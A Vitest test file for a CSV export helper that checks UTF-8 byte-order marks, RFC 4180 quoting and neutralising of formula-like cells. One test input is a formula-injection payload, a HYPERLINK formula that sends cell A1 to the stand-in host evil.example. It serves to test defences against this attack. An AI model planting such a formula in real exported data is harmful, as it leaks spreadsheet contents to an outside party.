import { describe, expect, it } from 'vitest';
import { BOM, csvField, toCsv } from './csv';

describe('toCsv', () => {
  it('starts with a UTF-8 byte-order mark so Excel shows Vietnamese', () => {
    const csv = toCsv(['name_vi'], [['Sơn La']]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv).toBe('\ufeffname_vi\nSơn La\n');
    expect(toCsv(['a'], [['x']], { bom: false })).toBe('a\nx\n');
  });
  it('quotes as RFC 4180 requires', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-2.1', "'-2.1"]
  ])('writes the formula-like text %j as text', (cell, expected) => {
    expect(csvField(cell)).toBe(expected);
  });
  it('keeps numbers as numbers, negative ones too', () => {
    expect(csvField(-2.1)).toBe('-2.1');
    expect(csvField(890000000)).toBe('890000000');
    expect(csvField(Number.NaN)).toBe('');
    expect(toCsv(['value', 'note'], [[-20, '-20 is a fall']], { bom: false })).toBe("value,note\n-20,'-20 is a fall\n");
  });
  it('leaves formula-like text alone only when asked to', () => {
    expect(csvField('=1', false)).toBe('=1');
  });
});
